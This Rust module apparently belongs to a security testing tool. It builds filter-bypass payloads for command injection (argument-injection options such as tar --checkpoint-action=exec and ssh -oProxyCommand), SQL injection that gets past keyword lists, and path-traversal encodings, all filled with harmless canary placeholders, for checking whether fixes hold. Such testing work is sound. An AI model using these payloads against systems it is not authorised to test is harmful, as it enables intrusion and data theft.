//! Payloads for patches: what gets past a list of forbidden words, the wrong kind of quoting, a check of the
//! wrong thing, or an argument list that still lets the input be an option.
//!
//! Each family here goes with the usual one of [`crate::payload`]; none destroys anything either.

use crate::payload::Payload;

/// Commands without the characters that lists forbid first, and options by which ordinary programs start
/// others.
pub(crate) fn command() -> Vec<Payload> {
    [
        // Without `;`, `&`, `|`, backtick and `$`: a line of its own.
        "{{token}}\n{{canary}}\n#",
        "{{token}}\r\n{{canary}}\n",
        // One layer of quotes the other way round, and escaped by a program that forgot the backslash.
        "{{token}}'\n{{canary}}\n'",
        "{{token}}\"\n{{canary}}\n\"",
        "{{token}}\\\";{{canary}};\\\"",
        "{{token}}\\';{{canary}};\\'",
        "{{token}}\"$({{canary}})\"",
        "{{token}}\"`{{canary}}`\"",
        // Forbidden pairs that survive being taken out once.
        "{{token}};;{{canary}};;",
        "{{token}}&;&;{{canary}}&;&;",
        "{{token}}|;|;{{canary}}",
        "{{token}}${IFS};{{canary}};",
        "{{token}};{{canary}}\t#",
        "{{token}}<({{canary}})",
        "{{token}}%0a{{canary}}%0a",
        "{{token}}%3b{{canary}}%3b",
        "{{token}}\0;{{canary}};",
        // After what an allow-list accepts: anchors that match one line, or the beginning alone.
        "{{token}}\n;{{canary}};",
        "a;{{canary}};",
        // Options by which programs start others, as an argument of their own after shell words are split.
        "{{token}} --checkpoint=1 --checkpoint-action=exec={{canary}} {{token}}",
        "{{token}}/, --checkpoint=1 --checkpoint-action=exec={{canary}} {{token}}",
        "--checkpoint=1 --checkpoint-action=exec={{canary}}",
        "--use-compress-program={{canary}}",
        "{{token}} --use-compress-program={{canary}} {{token}}",
        "--to-command={{canary}}",
        "-exec {{canary}} +",
        "{{token}} -exec {{canary}} ;",
        "-oProxyCommand={{canary}}",
        "--upload-pack={{canary}}",
        "{{token}} -e {{canary}}",
        "{{token}} -T -TT {{canary}}",
    ]
    .map(Payload::new)
    .to_vec()
}

/// SQL without the words that lists forbid, with their case mixed or doubled, and without spaces.
pub(crate) fn sql() -> Vec<Payload> {
    let mut all = Vec::new();
    let mut add = |attack: String, core: String| {
        let mut payload = Payload::new(attack);
        payload.core = Some(core);
        all.push(payload);
    };
    for quote in ['\'', '"'] {
        // No keyword, no comment, no space, no comparison.
        let plain = "||abs({{number}})||";
        add(format!("{{{{token}}}}{quote}{plain}{quote}"), plain.into());
        let bare = "||{{number}}||";
        add(format!("{{{{token}}}}{quote}{bare}{quote}"), bare.into());
        let mixed = "||(SeLeCt {{number}} aS {{token}})||";
        add(format!("{{{{token}}}}{quote}{mixed}{quote}"), mixed.into());
        let tight = "||(SELECT/**/{{number}}/**/AS/**/{{token}})||";
        add(format!("{{{{token}}}}{quote}{tight}{quote}"), tight.into());
        // What is left when a forbidden word is taken out once.
        let left = "||(SELECT {{number}} AS {{token}})||";
        add(
            format!(
                "{{{{token}}}}{quote}||(SELSELECTECT {{{{number}}}} AS {{{{token}}}})||{quote}"
            ),
            left.into(),
        );
        // Quotes escaped by a backslash, which SQLite does not know, and a condition without a keyword that
        // lists forbid first. White space at the ends may be taken off, so the core has none.
        let condition = " OR {{number}}<>abs({{number}})--";
        let core = condition.trim();
        add(format!("{{{{token}}}}{quote}{condition}"), core.into());
        add(format!("{{{{token}}}}\\{quote}{condition}"), core.into());
        let tight = "<>abs({{number}})--";
        add(format!("{{{{token}}}}{quote}{tight}"), tight.into());
        // The first quote alone is doubled.
        add(
            format!("{{{{token}}}}{quote}{quote}{plain}{quote}{quote}"),
            plain.into(),
        );
        add(
            format!("{{{{token}}}}{quote}{quote}{plain}{quote}"),
            plain.into(),
        );
        let other = if quote == '\'' { '"' } else { '\'' };
        add(
            format!("{{{{token}}}}{other}{quote}{condition}"),
            core.into(),
        );
        add(
            format!("{{{{token}}}}{quote}{quote}{quote}{plain}{quote}{quote}{quote}"),
            plain.into(),
        );
        add(format!("{quote}{plain}{quote}"), plain.into());
        add(format!("{{{{token}}}}%{quote}{plain}{quote}"), plain.into());
        add(
            format!("{{{{token}}}}{quote}\n{plain}\n{quote}"),
            plain.into(),
        );
    }
    let number = |attack: &str, core: &str| {
        let mut payload = Payload::new(attack);
        payload.core = Some(core.to_owned());
        payload.twin = "{{number}}".to_owned();
        payload
    };
    all.push(number("{{number}}-abs({{number}})", "-abs({{number}})"));
    all.push(number(
        "{{number}}\t-\tabs({{number}})",
        "-\tabs({{number}})",
    ));
    all.push(number("{{number}} or {{number}}", " or {{number}}"));
    all.push(number("{{number}}\n- abs({{number}})", "- abs({{number}})"));
    all
}

/// Paths past checks of beginnings, ends and single replacements. `folder` is where the target was seen to
/// look for a file of a harmless name, `ends` how harmless names end.
pub(crate) fn path(folder: Option<&str>, ends: &[String]) -> Vec<Payload> {
    const UP: &str = "../../../../../../../../../../";
    let mut all = Vec::new();
    let mut add = |attack: String, extension: &str| {
        let mut payload = Payload::new(attack);
        payload.extension = extension.to_owned();
        all.push(payload);
    };
    let mut endings: Vec<&str> = vec![""];
    endings.extend(ends.iter().map(String::as_str).take(3));
    for end in endings {
        let file = format!("planted/{{{{file}}}}{end}");
        for up in [
            UP.to_owned(),
            UP.replace("../", "..././"),
            UP.replace("../", ".../...//"),
            UP.replace("../", "....//"),
            UP.replace("../", "..//"),
            UP.replace("../", ".././"),
            UP.replace("../", "..;/"),
            UP.replace("../", "%2e%2e/"),
            UP.replace("../", "..%252f"),
            UP.replace("../", "..%c0%af"),
            UP.replace("../", "\u{ff0e}\u{ff0e}/"),
        ] {
            add(format!("{up}{file}"), end);
        }
        for start in [
            "/", "//", "///", "/./", " /", "/../", "./", ".//", "\\", "~/../",
        ] {
            add(format!("{start}{file}"), end);
        }
        add(format!(" {UP}{file}"), end);
        add(format!("./{UP}{file}"), end);
        add(format!("/{UP}{file}"), end);
        add(format!("{UP}{file}\0.txt"), end);
        add(format!("{UP}{file}\n"), end);
        add(format!("%2f{}", file.replace('/', "%2f")), end);
        if let Some(folder) = folder {
            // The whole folder first, which a check of the beginning accepts.
            add(format!("{folder}/{UP}{file}"), end);
            add(format!("{folder}/../../../../../../{file}"), end);
        }
    }
    // A folder whose name begins as the right one's does: what a check without its separator accepts.
    if let Some((_, name)) = folder.and_then(|folder| folder.rsplit_once('/'))
        && !name.is_empty()
        && let Some(folder) = folder
    {
        for end in std::iter::once("").chain(ends.iter().map(String::as_str).take(3)) {
            for attack in [
                format!("../{name}-old/{{{{file}}}}{end}"),
                format!("{folder}-old/{{{{file}}}}{end}"),
            ] {
                let mut payload = Payload::new(attack);
                payload.extension = end.to_owned();
                payload.directory = format!("{folder}-old");
                all.push(payload);
            }
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_sql_variation_carries_a_part_that_spans_more_than_one_token() {
        for payload in sql() {
            let core = payload.core.expect("a core");
            let filled = core
                .replace("{{number}}", "1234")
                .replace("{{token}}", "slvx");
            let tokens = crate::oracle::shape(&filled).expect("reads");
            assert!(tokens.len() >= 2, "{filled}");
        }
    }

    #[test]
    fn a_neighbour_folder_is_tried_when_the_folder_is_known() {
        let with = path(Some("/app/guides"), &[".txt".into()]);
        assert!(
            with.iter()
                .any(|p| p.directory == "/app/guides-old" && p.extension == ".txt")
        );
        assert!(
            path(None, &[])
                .iter()
                .all(|p| p.directory == crate::payload::PLANTED)
        );
    }
}
